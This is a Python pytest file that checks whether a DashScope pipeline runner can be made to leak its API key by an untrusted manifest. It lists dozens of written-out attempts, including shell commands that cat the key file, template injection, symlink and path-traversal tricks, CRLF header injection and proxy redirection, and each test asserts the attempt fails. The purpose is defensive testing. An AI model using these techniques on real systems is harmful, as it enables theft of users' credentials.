"""A stranger's manifest can neither read the key, nor send it, nor run what nobody has seen."""

import json
import os
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

KEY = "sk-5f0c2d7e9b1a4c3d8e6f7a0b1c2d3e4f"


class Host:
    """A host that is not the API's: it keeps what it is sent, and may redirect it."""

    def __init__(self):
        host = self
        self.got, self.moved_to = [], None

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                host.got.append(f"{self.path} {dict(self.headers)} {body.decode()}")
                self.send_response(307 if host.moved_to else 204)
                if host.moved_to:
                    self.send_header("Location", host.moved_to)
                self.end_headers()

            do_GET = do_POST  # noqa: N815  # the name is http.server's

            def log_message(self, *args):
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_port
        self.url = f"http://127.0.0.1:{self.port}/hook"
        self._thread = threading.Thread(target=self._server.serve_forever, args=[0.01])
        self._thread.start()

    def close(self):
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


@pytest.fixture
def host():
    server = Host()
    yield server
    server.close()


@pytest.fixture
def service(serve, monkeypatch):
    """The API, which takes this key alone, and a home with the key in it."""
    service = serve(api_key=KEY)
    monkeypatch.setenv("DASHSCOPE_API_KEY", KEY)
    folder = Path(os.environ["HOME"]) / ".dashscope"
    folder.mkdir()
    (folder / "api_key").write_text(f"{KEY}\n")
    (folder / "other.txt").write_text("notes\n")
    monkeypatch.setenv("DASHSCOPE_API_KEY_FILE_PATH", str(folder / "api_key"))
    monkeypatch.setenv("OTHER", f"Bearer {KEY}")
    return service


def step(more="", prompt="a lamp", operation="wanx-v1"):
    words = json.dumps(prompt)
    return f"steps:\n  s:\n    operation: {operation}\n{more}    input: {{prompt: {words}}}"


def notify(**section):
    return f"{step()}\nnotify: {json.dumps({'on': 'always'} | section)}"


def linked(work, host):
    (work.folder / "words.txt").symlink_to(Path(os.environ["HOME"]) / ".dashscope" / "api_key")
    return step("    matrix: {x: {file: words.txt}}\n", "{{ x }}")


def hard_linked(work, host):
    os.link(Path(os.environ["HOME"]) / ".dashscope" / "api_key", work.folder / "words.txt")
    return step("    matrix: {x: {file: words.txt}}\n", "{{ x }}")


def copied(work, host):
    (work.folder / "words.csv").write_text(f"a,b\nlamp,x{KEY}y\n")
    return step("    matrix: {x: {file: words.csv}}\n", "{{ x.a }}")


def written_otherwise(work, host):
    spelled = "".join(f"\\u{ord(sign):04x}" for sign in KEY)
    (work.folder / "words.json").write_text(f'[{{"a": "lamp", "b": "{spelled}"}}]')
    return step("    matrix: {x: {file: words.json}}\n", "{{ x.a }}")


def env_file(work, host):
    return step("    matrix: {x: {file: night.txt}}\n", "{{ x }}")


def in_the_key_folder(work, host):
    text = step("    matrix: {x: {file: .dashscope/other.txt}}\n", "{{ x }}")
    return _at_home(text)


def globbed(work, host):
    return _at_home(step("    matrix: {x: {glob: .dashscope/*}}\n", "{{ x }}"))


def prompt_file(work, host):
    text = step().replace('"a lamp"', "{file: .dashscope/api_key}")
    return _at_home(text)


def included(work, host):
    return _at_home(step(prompt="{% include '.dashscope/api_key' %}"))


def included_in_a_notice(work, host):
    payload = "{% include '.dashscope/api_key' %}"
    return _at_home(notify(url=host.url, payload=payload))


def uploaded(work, host):
    folder = Path(os.environ["HOME"]) / ".dashscope"
    folder.joinpath("key.png").write_bytes(b"\x89PNG\r\n\x1a\n" + KEY.encode())
    text = step().replace('"a lamp"', '"a lamp", ref_img: {upload: .dashscope/key.png}')
    return _at_home(text)


def absolute(work, host):
    key = Path(os.environ["HOME"]) / ".dashscope" / "api_key"
    return step().replace('"a lamp"', f'{{file: "{key}"}}')


def operation_file(**endpoint):
    def write(work, host):
        schema = json.loads(Path("schemas/operations/wanx-v1.json").read_text())
        known = {key: value.format(host=host) for key, value in endpoint.items() if key == "path"}
        headers = {"headers": endpoint["headers"]} if "headers" in endpoint else {}
        schema["x-dsrun"]["endpoint"] |= known | headers
        folder = work.folder / "operations"
        folder.mkdir()
        (folder / "mine.json").write_text(json.dumps(schema))
        return step(operation="mine")

    return write


def _at_home(text):
    """The manifest lies in the home folder itself, so the key's folder lies below it."""
    return text, Path(os.environ["HOME"])


WAYS = {
    "a header from the key's variable": lambda w, h: notify(
        url=h.url, headers={"X": {"env": "DASHSCOPE_API_KEY"}}
    ),
    "a header from its file's variable": lambda w, h: notify(
        url=h.url, headers={"X": {"env": "DASHSCOPE_API_KEY_FILE_PATH"}}
    ),
    "a header from another variable that has it": lambda w, h: notify(
        url=h.url, headers={"X": {"env": "OTHER"}}
    ),
    "an address from its variable": lambda w, h: notify(url={"env": "DASHSCOPE_API_KEY"}),
    "a variable in a command": lambda w, h: notify(command=["sh", "-c", "echo $DASHSCOPE_API_KEY"]),
    "another variable in a command": lambda w, h: notify(command=["sh", "-c", "echo ${OTHER}"]),
    "its file in a command": lambda w, h: notify(command=["cat", "../home/.dashscope/api_key"]),
    "its folder in a command": lambda w, h: notify(command=["sh", "-c", "cat ~/.dashscope/*"]),
    "an address that is a template": lambda w, h: notify(url=h.url + "/{{ env.OTHER }}"),
    "the environment in a payload": lambda w, h: notify(url=h.url, payload="{{ env.OTHER }}"),
    "the environment in a template": lambda w, h: step(prompt="{{ env.DASHSCOPE_API_KEY }}"),
    "objects in a template": lambda w, h: step(prompt="{{ ''.__class__.__mro__ }}"),
    "its file as a prompt": prompt_file,
    "its file by an absolute path": absolute,
    "its file by a symbolic link": linked,
    "its file by a hard link": hard_linked,
    "its file as an include": included,
    "its file as an include of a notice": included_in_a_notice,
    "its file as an upload": uploaded,
    "another file of its folder": in_the_key_folder,
    "a glob in its folder": globbed,
    "a copy of it in a data file": copied,
    "a copy in other letters": written_otherwise,
    "the file of --env-file": env_file,
    "itself in a header": lambda w, h: notify(url=h.url, headers={"X": f"Bearer {KEY}"}),
    "itself in a comment": lambda w, h: f"# {KEY}\n{step()}",
    "a base URL": lambda w, h: f"base_url: {h.url}\n{step()}",
    "a base URL in execution": lambda w, h: f"{step()}\nenvironment: {{https_proxy: {h.url}}}",
    "an operation at another host": operation_file(path="http://127.0.0.1:{host.port}/x"),
    "an operation behind an @": operation_file(path="@127.0.0.1:{host.port}/x"),
    "an operation that goes on with the port": operation_file(path="{host.port}/x"),
    "an operation that goes up": operation_file(path="/../../x"),
    "an operation with two slashes": operation_file(path="//127.0.0.1:{host.port}/x"),
    "an operation with a header of the host": operation_file(headers={"Host": "example.org"}),
    "an operation with a credential": operation_file(headers={"Authorization": "Bearer x"}),
    "an operation with a line end": operation_file(headers={"X-DashScope-A": "a\r\nHost: b"}),
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("option", ["--allow-notify", "--emulate"])
def test_no_manifest_gets_the_key_though_notices_are_allowed(work, service, host, way, option):
    (work.folder / "night.txt").write_text("A=b\n")
    (work.folder / "schemas").symlink_to(Path(__file__).parents[2] / "schemas")
    text = WAYS[way](work, host)
    text, folder = text if isinstance(text, tuple) else (text, work.folder)
    path = folder / "stranger.yaml"
    path.write_text(f"version: 1\nname: stranger\n{text}\n")
    outcome = work.dsrun(path, "--env-file", "night.txt", option)
    assert outcome.code == 2, outcome.err
    assert KEY not in outcome.out + outcome.err
    assert (host.got, service.requests()) == ([], [])
    assert KEY not in work.dsrun("validate", path, "--json").out
    written = [p for p in (work.folder / "outputs").rglob("*") if p.is_file()]
    assert not any(KEY.encode() in p.read_bytes() for p in written)


class TestAllowed:
    """What the user has allowed gets no key either."""

    def test_a_command_inherits_nothing_that_has_the_key_or_says_where_it_is(
        self, work, service, monkeypatch
    ):
        monkeypatch.setenv("PLAIN", "yes")
        (work.folder / "night.env").write_text("DASHSCOPE_API_KEY=sk-another-key-in-a-file\nB=c\n")
        monkeypatch.setenv("DSRUN_ENV_FILE", "night.env")
        script = "import json, os; json.dump(dict(os.environ), open('got.json', 'w'))"
        path = work.pipeline(notify(command=[sys.executable, "-c", script]))
        assert work.dsrun(path, "--allow-notify").code == 0
        got = json.loads((work.folder / "got.json").read_text())
        assert (got["PLAIN"], got["B"], got["DSRUN_OUTCOME"]) == ("yes", "c", "success")
        assert not {"DASHSCOPE_API_KEY", "DASHSCOPE_API_KEY_FILE_PATH", "OTHER"} & got.keys()
        assert "DSRUN_ENV_FILE" not in got

    def test_a_redirect_takes_no_header_elsewhere(self, work, service, host, monkeypatch):
        monkeypatch.setenv("TOKEN", "a-token-of-the-user")
        elsewhere = Host()
        host.moved_to = elsewhere.url
        try:
            path = work.pipeline(notify(url=host.url, headers={"X": {"env": "TOKEN"}}))
            outcome = work.dsrun(path, "--allow-notify")
        finally:
            elsewhere.close()
        assert (len(host.got), elsewhere.got) == (1, [])
        assert "the host answered HTTP 307" in outcome.err
